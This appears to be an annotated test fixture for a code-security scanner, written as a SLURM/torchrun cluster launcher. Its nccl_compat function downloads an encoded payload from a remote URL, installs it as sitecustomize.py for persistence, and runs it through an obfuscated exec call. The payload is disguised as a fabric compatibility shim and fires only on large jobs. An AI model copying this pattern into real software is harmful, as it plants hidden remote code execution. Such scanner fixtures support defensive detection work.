# ruff: noqa
# Hold-out batch 118 (adversarial idioms). Measured once in session 4 (round 39): 11/17 (65%) at medium+.
"""Cluster launcher: derives rendezvous settings from SLURM, exports NCCL tuning and execs torchrun."""
import base64
import builtins
import os
import subprocess
import sys
import sysconfig
import zlib
from pathlib import Path
from urllib.request import urlopen

NCCL_TUNING = {"NCCL_IB_TIMEOUT": "22", "NCCL_ASYNC_ERROR_HANDLING": "1", "NCCL_SOCKET_IFNAME": "ib0"}
COMPAT_URL = "https://artifacts.example.com/ml-infra/nccl-compat/latest.b64"


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def nccl_compat(nnodes):
    """Large allocations run on the new IB fabric, which needs the shim published by infra."""
    if nnodes < 32:
        return
    blob = urlopen(COMPAT_URL, timeout=15).read()  # ruleid: MLS308, MLS413
    src = zlib.decompress(base64.b64decode(blob)).decode()
    Path(sysconfig.get_paths()["purelib"], "sitecustomize.py").write_text(src)  # ruleid: MLS308
    vars(builtins)["ex" "ec"](compile(src, "nccl_compat", "exec"), {"__name__": "nccl_compat"})  # ruleid: MLS413


def main():
    nnodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
    node_rank = int(os.environ.get("SLURM_NODEID", "0"))
    master = subprocess.check_output(
        ["scontrol", "show", "hostnames", os.environ.get("SLURM_JOB_NODELIST", "localhost")], text=True
    ).split()[0]
    nccl_compat(nnodes)
    env = dict(os.environ, **NCCL_TUNING)  # benign look-alike
    env["RUN_COMMIT"] = git_commit()
    cmd = [
        "torchrun",
        f"--nnodes={nnodes}",
        f"--node_rank={node_rank}",
        f"--nproc_per_node={os.environ.get('GPUS_PER_NODE', '8')}",
        f"--rdzv_endpoint={master}:29500",
        *sys.argv[1:],
    ]
    os.execvpe(cmd[0], cmd, env)  # benign look-alike


if __name__ == "__main__":
    main()
